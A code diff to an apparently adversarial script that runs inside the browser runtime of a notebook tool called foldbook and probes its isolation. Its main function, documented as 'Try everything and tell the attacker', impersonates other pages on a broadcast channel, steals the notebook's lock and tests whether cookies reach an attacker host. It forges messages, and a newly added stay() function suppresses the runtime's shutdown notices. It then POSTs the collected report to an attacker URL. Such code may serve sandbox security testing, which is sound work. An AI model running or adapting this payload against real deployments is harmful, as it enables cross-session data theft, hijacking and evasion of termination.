@@ -12,6 +12,7 @@ from dataclasses import replace
 
 import js
 from foldbook import events
+from foldbook.browser import runtime_worker
 from foldbook.browser.ports import PortChannel
 from foldbook.events.cells import CellCreated, CellSourceEdited
 from foldbook.events.executions import ExecutionCompleted, ExecutionRequested
@@ -99,7 +100,8 @@ def addresses():
 
 
 async def shout(notebook):
-    """Speak on the pages' channel as another page would, and take the notebook's lock away."""
+    """Speak on the pages' channel as another page would, and take the notebook's lock away: the
+    channel, the list of what is heard on it from now on, and what came of the lock."""
     channel = js.BroadcastChannel.new(f"foldbook:{notebook}")
     heard = []
     channel.onmessage = lambda event: heard.append(event.data)
@@ -109,8 +111,7 @@ async def shout(notebook):
         channel.postMessage(plain(**message))
     name, steal = f"foldbook:{notebook}", plain(steal=True)
     lock = await attempt(lambda: js.navigator.locks.request(name, steal, lambda _lock: None))
-    await asyncio.sleep(0.5)
-    return {"heard": len(heard), "lock": lock}
+    return channel, heard, lock
 
 
 async def carries_cookies(attacker):
@@ -131,6 +132,12 @@ def forge_messages(text):
 
 
 # Writing what only others may write
+
+
+def stay():
+    """Have nobody told that the runtime has ended: a second connection takes the first one's
+    place, and the page ends a worker that says so."""
+    runtime_worker._Page.post = lambda _page, **_message: None
 
 
 class Line:
@@ -281,16 +288,16 @@ async def greetings(hello, session):
 async def main(told):
     """Try everything and tell the attacker."""
     notebook = next(each for each in gc.get_objects() if isinstance(each, Hello)).room
-    report = {
-        "reads": await reads(told["other"], notebook),
-        "addresses": addresses(),
-        "shout": await shout(notebook),
-    }
+    report = {"reads": await reads(told["other"], notebook), "addresses": addresses()}
+    channel, heard, lock = await shout(notebook)
     await carries_cookies(told["attacker"])
     forge_messages(told["markup"])
+    stay()
     try:
         report["writes"] = await writes()
     except BaseException:
         report["problem"] = traceback.format_exc()
+    # By now the notebook has answered all that came by the line: it would have answered this too.
+    report["shout"] = {"heard": len(heard), "lock": lock, "on": channel.name}
     body = json.dumps(report, default=str)
     await js.fetch(f"{told['attacker']}/report", plain(method="POST", mode="no-cors", body=body))
